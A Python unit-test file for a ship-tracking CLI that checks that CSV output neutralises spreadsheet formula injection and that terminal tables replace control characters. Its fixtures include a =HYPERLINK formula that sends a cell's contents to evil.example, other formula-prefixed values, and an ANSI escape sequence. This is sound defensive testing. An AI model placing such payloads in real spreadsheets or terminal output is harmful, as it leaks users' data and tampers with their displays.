"""The CLI's list formats: CSV a spreadsheet opens without running a ship's name as a formula, tables a
terminal shows without obeying control characters in it."""

from __future__ import annotations

import csv
import io

import pytest

from ais_watch.cli_output import csv_writer, print_table

pytestmark = pytest.mark.unit

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\nLF")


def test_csv_cells_that_would_be_formulas_are_text_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    write_row = csv_writer(("name", "lat", "lon", "flag"), out)
    for name in HOSTILE:
        write_row({"name": name, "lat": 42.24, "lon": -12.5, "flag": None})
    write_row({"name": "ANGARA", "lat": -0.5, "lon": 130.3, "flag": "RU"})
    write_row({"name": "\r=1+1", "lat": 1.0, "lon": 2.0, "flag": "A\rB\r\nC"})  # a lone CR ends a row
    header, *rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert header == ["name", "lat", "lon", "flag"]
    assert [r[0] for r in rows] == ["'" + name for name in HOSTILE] + ["ANGARA", "'\n=1+1"]
    assert [r[1:] for r in rows] == [["42.24", "-12.5", ""]] * len(HOSTILE) + [["-0.5", "130.3", "RU"],
                                                                               ["1.0", "2.0", "A\nB\nC"]]


def test_table_cells_show_control_characters_as_question_marks() -> None:
    out = io.StringIO()
    print_table([{"name": "EVIL\x1b[2J\x07", "mmsi": 273111111}], ("name", "mmsi"), out)
    assert "\x1b" not in out.getvalue() and "EVIL?[2J?" in out.getvalue()
